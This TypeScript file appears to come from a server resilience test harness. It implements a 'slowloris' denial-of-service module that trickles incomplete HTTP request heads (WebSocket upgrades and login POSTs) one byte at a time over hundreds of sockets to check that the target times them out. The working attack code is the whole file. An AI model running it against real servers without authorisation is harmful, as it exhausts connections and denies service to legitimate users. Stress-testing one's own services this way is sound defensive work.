// slowloris: HTTP request heads (WebSocket upgrades and /auth/login POSTs)
// trickled a byte at a time over hundreds of sockets, each replaced when the
// server closes it. The server must time them out (it does not wait forever
// for a head) and keep serving everyone else.

import { RawConn, upgradeRequest } from './raw.js';
import { runPool } from './pool.js';
import { sleep, type Attack } from './types.js';
import { GRACE_MS } from './limits.js';

export const slowloris: Attack = {
  name: 'slowloris',
  description: 'HTTP heads and upgrade requests trickled a byte at a time over hundreds of sockets',
  run(ctx) {
    const sent = { bytes: 0 };
    const host = `${ctx.host}:${ctx.port}`;
    return runPool(
      'slowloris',
      ctx,
      {
        perSec: 100 * ctx.intensity,
        concurrency: Math.round(300 * ctx.intensity),
        cap: Math.round(6000 * ctx.intensity),
        one: async (src, i) => {
          const c = new RawConn(ctx.host, ctx.port, src);
          if (!(await c.connected)) return c.closed;
          const head =
            i % 2 === 0
              ? upgradeRequest(ctx.wsPath, host)
              : `POST /auth/login HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 40\r\nX-Padding: ${'p'.repeat(200)}\r\n\r\n`;
          // Never the last byte: the head never completes.
          for (let k = 0; k < head.length - 1 && c.open && performance.now() < ctx.deadline; k++) {
            if (c.write(head[k]!)) sent.bytes++;
            await sleep(250);
          }
          return c.finish(GRACE_MS);
        },
      },
      sent,
    );
  },
};
